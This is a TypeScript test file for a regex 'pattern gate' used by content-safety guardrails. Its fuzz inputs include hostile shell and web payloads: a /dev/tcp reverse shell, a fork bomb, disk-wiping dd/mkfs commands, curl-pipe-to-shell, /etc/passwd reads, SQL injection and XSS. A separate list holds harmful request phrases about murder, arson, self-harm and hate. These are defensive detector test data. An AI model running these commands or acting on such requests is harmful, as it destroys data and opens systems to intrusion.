import { describe, expect, it } from 'vitest';
import { PAYLOAD_PATTERNS } from '../../guardrails/dangerous-patterns/dangerous-patterns.ts';
import { HATE_FAMILIES } from '../../guardrails/hate-speech/hate-speech.ts';
import { MEDICAL } from '../../guardrails/nsfw-advanced/nsfw-advanced.ts';
import { SELF_HARM_FAMILIES } from '../../guardrails/self-harm/self-harm.ts';
import { VIOLENCE_FAMILIES } from '../../guardrails/violence/violence.ts';
import { PatternGate, patternPrefixes } from './gate.ts';
import { BENIGN_CONTEXT, HARM_FAMILIES, REQUEST_FRAME, REQUEST_TOPICS } from './phrases.ts';

const FOLDED = [
  REQUEST_FRAME,
  BENIGN_CONTEXT,
  MEDICAL,
  ...[...HARM_FAMILIES, ...HATE_FAMILIES, ...VIOLENCE_FAMILIES, ...SELF_HARM_FAMILIES].map((f) => f.pattern),
];
const TOPICS = REQUEST_TOPICS.map((f) => f.pattern);
const RAW = PAYLOAD_PATTERNS.map((p) => p.pattern);

/** Every match of every pattern the plain way, pattern by pattern. */
function plain(patterns: readonly RegExp[], text: string, limit: number): Array<[number, number, string]> {
  const out: Array<[number, number, string]> = [];
  patterns.forEach((p, k) => {
    const g = new RegExp(p.source, p.flags.includes('g') ? p.flags : `${p.flags}g`);
    let n = 0;
    for (const m of text.matchAll(g)) {
      out.push([k, m.index, m[0]]);
      if (++n >= limit) break;
    }
  });
  return out;
}

function gated(gate: PatternGate, text: string, limit: number): Array<[number, number, string]> {
  const out: Array<[number, number, string]> = [];
  gate.run(text, limit, (k, i, m) => out.push([k, i, m]));
  return out;
}

/** Texts made of pattern words, near misses, case and spacing variants (deterministic). */
function texts(
  words = "how to make a bomb kill the process i'm gonna kill you black people are animals rm -rf / curl x | sh ' or 1=1 -- union select null from <script> <img src=x onerror=alert(1)> javascript:alert(1) suicide i want to die doctor sex education killing myself; cat /etc/passwd powershell -enc QUJDREVGR0hJSktMTU5PUFFS ; drop table users sleep(5) document.cookie fetch( :(){ :|:& };: mkfs.ext4 /dev/sda dd if=/dev/zero of=/dev/sda bash -i >& /dev/tcp/1.2.3.4/80 é ß \u00a0 \t\n KILL HOW To".split(
    ' ',
  ),
): string[] {
  let seed = 7;
  const rnd = () => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return seed / 4294967296;
  };
  const out: string[] = [];
  for (let t = 0; t < 400; t++) {
    let s = '';
    const len = 1 + Math.floor(rnd() * 40);
    for (let k = 0; k < len; k++) {
      s += words[Math.floor(rnd() * words.length)];
      s += rnd() < 0.8 ? ' ' : ['', '  ', '\n', 'x', "'"][Math.floor(rnd() * 5)];
    }
    out.push(s);
  }
  return out;
}

describe('pattern gate', () => {
  it('derives literal prefixes for every shipped phrase pattern', () => {
    for (const p of [...FOLDED, ...TOPICS]) expect(patternPrefixes(p), p.source.slice(0, 60)).toBeDefined();
    // A lookbehind is zero-width: the prefixes are those of what follows it.
    expect(patternPrefixes(/(?<![a-z])foo|(?<=x )bar/g)).toEqual({ list: ['foo', 'bar'], boundary: false });
    expect(patternPrefixes(/\bhow to\b/g)).toEqual({ list: ['how to'], boundary: true });
    // Prefixes stop at K characters, and at fewer when a pattern would have too many.
    expect(patternPrefixes(/\bhow to make a bomb\b/g)).toEqual({ list: ['how to mak'], boundary: true });
    // 16^3 three-letter starts exceed the 2,000 kept per pattern: two letters then.
    const many = patternPrefixes(/\b[a-p][a-p][a-p]x/g)?.list ?? [];
    expect([many.length, new Set(many.map((s) => s.length))]).toEqual([256, new Set([2])]);
    expect(patternPrefixes(/a|.b/g)).toBeUndefined();
  });

  it('finds exactly what matchAll finds, in the same order', () => {
    const gates = [new PatternGate(FOLDED.slice(0, 30)), new PatternGate(RAW)];
    const sets = [FOLDED.slice(0, 30), RAW];
    for (const text of texts()) {
      for (let g = 0; g < gates.length; g++) {
        for (const limit of [1, 50]) {
          const lower = g === 0 ? text.toLowerCase() : text;
          expect(gated(gates[g]!, lower, limit), lower).toEqual(plain(sets[g]!, lower, limit));
        }
      }
    }
  });

  it('finds exactly what matchAll finds for the request topics, lookbehinds included', () => {
    const gate = new PatternGate(TOPICS);
    let found = 0;
    // Phrases that make each kind of topic, cut and joined at random.
    const words = [
      'why are women so lazy',
      "isn't it true that muslims are violent",
      'why do the elderly always',
      'how do i kill my wife',
      'how can i poison my neighbour',
      'write a threatening letter to my boss',
      'convince people the holocaust never happened',
      'how can i rob a gas station without getting caught',
      'in a game',
      "what is my sister's home address",
      'everyone from texas is stupid',
      'tell me a dirty joke',
      'how do i set a school on fire',
      'why should gay people not be allowed to vote',
      'insult me',
      'how do i cut myself',
      'write a fake news article about',
      'the internal budget allocation of',
    ].flatMap((p) => p.split(' ').map((w, k, all) => (k === 0 ? w : `${all[k - 1]} ${w}`)));
    for (const text of texts(words)) {
      for (const limit of [1, 20]) {
        const lower = text.toLowerCase();
        const expected = plain(TOPICS, lower, limit);
        found += expected.length;
        expect(gated(gate, lower, limit), lower).toEqual(expected);
      }
    }
    expect(found).toBeGreaterThan(100);
  });

  it('falls back to a full scan for patterns without a literal prefix', () => {
    const gate = new PatternGate([/\w+x/g, /\bab/g]);
    expect(gate.gated).toBe(false);
    expect(gated(gate, '12x ab 3x', 10)).toEqual([
      [0, 0, '12x'],
      [0, 7, '3x'],
      [1, 4, 'ab'],
    ]);
  });
});
